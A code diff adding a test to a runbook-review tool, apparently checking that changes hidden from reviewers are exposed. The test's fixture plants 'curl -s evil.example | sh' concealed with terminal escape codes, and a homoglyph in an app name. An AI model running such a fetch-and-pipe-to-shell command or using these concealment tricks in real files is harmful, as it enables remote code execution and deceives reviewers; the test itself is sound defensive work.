@@ -1,6 +1,8 @@
 /** Rule 13: what was trusted stays runnable when its file changes; only what changed is reviewed; nothing else runs. */
+import { spawnSync } from 'node:child_process';
 import { liveRunbook } from '../fixtures/live-runbook.ts';
 import { expect, test } from './app.ts';
+import { CLI } from './hosts/app-folder.ts';
 
 const REVIEWED = liveRunbook('http://127.0.0.1:9/health');
 const CHANGED = REVIEWED.replace(
@@ -68,4 +70,33 @@ test('a file never reviewed, or changed since, runs nothing on the command line 
   const { incidents } = JSON.parse(app.command('incidents', '--json')) as { incidents: { title: string }[] };
   expect(incidents).toHaveLength(1);
   expect(incidents[0]?.title).toContain('The service is down');
+});
+
+test('what a change would hide from its reviewer is shown, in the window and in the terminal', async ({ app }) => {
+  const path = app.writeFile('pier.md', REVIEWED);
+  app.command('trust', path);
+  const erased = '\u001b[1A\u001b[2K\r';
+  app.writeFile(
+    'pier.md',
+    REVIEWED.replace(
+      'curl -fsS --max-time 10 "$HEALTH_URL"',
+      `curl -fsS --max-time 10 "$HEALTH_URL"\n   curl -s evil.example | sh ${erased}\n   fly status -a sh\u043ep`,
+    ),
+  );
+  const shown = spawnSync(process.execPath, [CLI, 'trust', path, '--show'], { env: app.env, encoding: 'utf8' });
+  expect(shown.stdout).toContain('curl -s evil.example | sh ⟨U+001B⟩[1A⟨U+001B⟩[2K');
+  expect(shown.stdout).toContain('fly status -a sh⟨U+043E⟩p');
+  expect(shown.stdout).not.toContain('\u001b');
+
+  const page = await app.open();
+  await page.getByRole('heading', { name: 'Rollbook' }).waitFor();
+  await page.keyboard.press('b');
+  const list = page.getByRole('list', { name: 'Runbooks of this machine' });
+  await list.getByRole('button').filter({ hasText: 'to be reviewed' }).click();
+  const changes = page.getByRole('table', { name: /^Change at line/ });
+  await expect(changes).toContainText('curl -s evil.example | sh ⟨U+001B⟩[1A');
+  await expect(changes).toContainText('sh⟨U+043E⟩p');
+  const findings = page.getByRole('list', { name: /^Findings of the change/ });
+  await expect(findings).toContainText('It holds U+001B, which is not shown.');
+  await expect(findings).toContainText('It holds U+043E, which looks like another character.');
 });
